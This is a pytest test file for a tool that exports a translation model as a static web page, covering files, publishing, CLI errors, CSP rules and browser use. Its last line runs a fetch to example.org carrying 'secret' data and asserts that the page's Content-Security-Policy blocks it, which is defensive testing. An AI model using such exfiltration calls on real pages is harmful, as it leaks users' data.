"""Page without a server: its files, publication, and the page in a browser."""

import json
import re
from functools import partial

import pytest
import sacrebleu
from huggingface_hub import RepoCard

from hub.space import app, static_page
from hub.space.__main__ import main
from vanilla_transformer.pipeline_vanilla_transformer import EXTRA_TOKENS
from vanilla_transformer.shared.loading import load_model, load_tokenizer

NAMES = ["README.md", "index.html", "page.css", "page.js", "page.json"]


@pytest.fixture
def command(run_main):
    return partial(run_main, main)


def test_limits_equal_those_of_gradio_page():
    assert static_page.MAX_SOURCE_TOKENS == app.MAX_SOURCE_TOKENS
    assert EXTRA_TOKENS == app.EXTRA_TOKENS


@pytest.mark.parametrize("shared", [True, False])
def test_writes_all_files(save_checkpoint, command, no_graphs, tmp_path, capsys, shared):
    _, tokenizer, folder = save_checkpoint(shared=shared, position_embedding_type="learned", max_position_embeddings=30)
    command(folder, "--static", tmp_path / "page")
    out = tmp_path / "page"
    assert f"python -m http.server --directory {out}" in capsys.readouterr().out
    assert sorted(path.name for path in out.iterdir()) == sorted([*NAMES, "model"])
    assert sorted(path.name for path in (out / "model" / "onnx").iterdir()) == sorted(static_page.GRAPHS)
    page = json.loads((out / "page.json").read_text())
    sides = ["model"] * 2 if shared else ["model/source_tokenizer", "model/target_tokenizer"]
    assert [page["source"], page["target"]] == sides
    assert all((out / side / "tokenizer.json").is_file() for side in sides)
    assert (page["max_source_tokens"], page["max_new_tokens"], page["unknown_ids"]) == (
        30,
        12,
        [tokenizer.unk_token_id],
    )  # of the generation config
    assert page["name"] == "checkpoint"  # not the local path
    data = RepoCard.load(out / "README.md").data
    assert (data.sdk, data.app_file, data.title, data.get("models")) == ("static", "index.html", "checkpoint", None)
    assert all(str(tmp_path).encode() not in path.read_bytes() for path in out.rglob("*") if path.is_file())

    command(folder, "--static", out, status=2)
    assert "already exists" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        (("--private",), "--private requires --push"),
        (("--static", "page", "--replace"), "--replace requires --push"),
        (("--static", "page", "--port", "8000"), "--port requires a page on this machine"),
        (("--push", "user/space", "--port", "8000"), "--port requires a page on this machine"),
        (("--static", "page", "--push", "user/space/page"), "user/space/page"),
    ],
)
def test_errors_before_the_export(command, tmp_path, capsys, monkeypatch, options, reason):
    monkeypatch.chdir(tmp_path)
    command(tmp_path, *options, status=2)
    assert reason in capsys.readouterr().err
    assert not list(tmp_path.iterdir())


def test_page_name_is_directory_name(save_checkpoint, command, no_graphs, tmp_path):
    """The path of the checkpoint may end with "..". Tokens with the embedding of <unk> are listed."""
    model, tokenizer, folder = save_checkpoint()
    table, unknown = model.get_input_embeddings().weight, tokenizer.unk_token_id
    table.data[7] = table[unknown]
    model.save_pretrained(folder)
    (folder / "inside").mkdir()
    command(folder / "inside" / "..", "--static", tmp_path / "page")
    page = json.loads((tmp_path / "page" / "page.json").read_text())
    assert page["name"] == RepoCard.load(tmp_path / "page" / "README.md").data.title == "checkpoint"
    assert page["unknown_ids"] == sorted([unknown, 7])


@pytest.mark.parametrize(("limits", "expected"), [({"max_new_tokens": 9}, (9, 9)), ({}, (EXTRA_TOKENS, 29))])
def test_uses_limit_of_generation_config(save_checkpoint, command, no_graphs, tmp_path, limits, expected):
    model, _, folder = save_checkpoint(position_embedding_type="learned", max_position_embeddings=30)
    model.generation_config.update(**({"max_new_tokens": None, "max_length": None} | limits))
    model.generation_config.save_pretrained(folder)
    command(folder, "--static", tmp_path / "page")
    page = json.loads((tmp_path / "page" / "page.json").read_text())
    assert (page["extra_tokens"], page["max_new_tokens"]) == expected


def test_policy_allows_only_page_and_library(repository):
    text = (repository / "hub" / "space" / "static" / "index.html").read_text()
    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]*)"', text)
    rules = {name: sources for name, *sources in map(str.split, policy.split(";"))}
    library = "https://cdn.jsdelivr.net/npm/"
    assert rules["default-src"] == ["'none'"]
    assert rules["connect-src"] == ["'self'", library]
    assert set(rules["script-src"]) == {"'self'", library, "'wasm-unsafe-eval'"}
    assert rules["form-action"] == ["'none'"]


@pytest.mark.slow
def test_publishes_static_space(start_programs, hub, demo_checkpoint, tmp_path):
    with start_programs("hub.space.__main__", **hub.environment) as programs:
        programs.run("hub.space.__main__", demo_checkpoint, "--static", tmp_path / "page", "--push", "user/static")
    files = hub.repositories["spaces/user/static"].files("main")
    out = tmp_path / "page"
    names = {path.relative_to(out).as_posix() for path in out.rglob("*") if path.is_file()}
    assert set(files) == names | {"pushed_files.json"}
    assert RepoCard(files["README.md"].decode()).data.sdk == "static"
    for name in static_page.GRAPHS:
        assert f"model/onnx/{name}" in files


@pytest.mark.slow
def test_static_page_in_browser(open_page, demo_checkpoint, demo_sentences, command, tmp_path):
    """Use the page by keyboard on wide and narrow screens: translation, attention, and error messages."""
    command(demo_checkpoint, "--static", tmp_path / "page")
    sentences = [english for english, _ in demo_sentences[:5]]
    model, tokenizer = load_model(str(demo_checkpoint)), load_tokenizer(str(demo_checkpoint))
    batch = tokenizer(sentences, return_tensors="pt", padding=True)
    expected_ids = model.generate(**batch, num_beams=1, max_new_tokens=60)
    expected = tokenizer.batch_decode(expected_ids, skip_special_tokens=True)
    for width in (1280, 390):
        page = open_page(tmp_path / "page", width)
        page.get_by_text("Ready.").wait_for(timeout=300_000)
        seen = []
        for sentence in sentences:
            page.keyboard.type(sentence)  # the box has the focus
            page.keyboard.press("Enter")
            page.get_by_text(re.compile("^Done in .* greedy decoding")).wait_for(timeout=120_000)
            seen.append(page.locator("#translation").inner_text())
            page.keyboard.press("Control+A")
        assert sacrebleu.corpus_chrf(seen, [expected]).score > 60  # the weights have 8 bits
        tokens = tokenizer.convert_ids_to_tokens(tokenizer(sentences[-1])["input_ids"])
        assert page.locator(".heat thead th").all_inner_texts() == tokens

        def weights(page=page) -> list[float]:
            cells = page.locator(".heat tbody tr").first.locator("td")
            return [float(title.rsplit(":")[-1]) for title in cells.evaluate_all("each => each.map(c => c.title)")]

        before = weights()
        assert sum(before) == pytest.approx(1, abs=0.1)
        page.get_by_label("Layer").select_option("1")
        assert weights() != before
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        page.screenshot(path=tmp_path / f"page{width}.png", full_page=True)
        for bad, answer in (
            ("", "Type a sentence"),
            ("собака", "does not contain any of these"),
            ("a " * 300, "the maximum is 200"),
        ):
            page.get_by_label("Sentence").fill(bad)
            page.get_by_role("button", name="Translate").press("Enter")
            page.get_by_text(answer).wait_for()
            assert page.locator("#translation").inner_text() == ""
        page.get_by_label("Sentence").fill("thehousedogsingsж")
        page.get_by_role("button", name="Translate").press("Enter")
        page.get_by_text("Unknown words: thehousedogsingsж").wait_for(timeout=120_000)
    result = page.evaluate("fetch('https://example.org/?text=secret').then(() => 'sent', () => 'blocked')")
    assert result == "blocked"
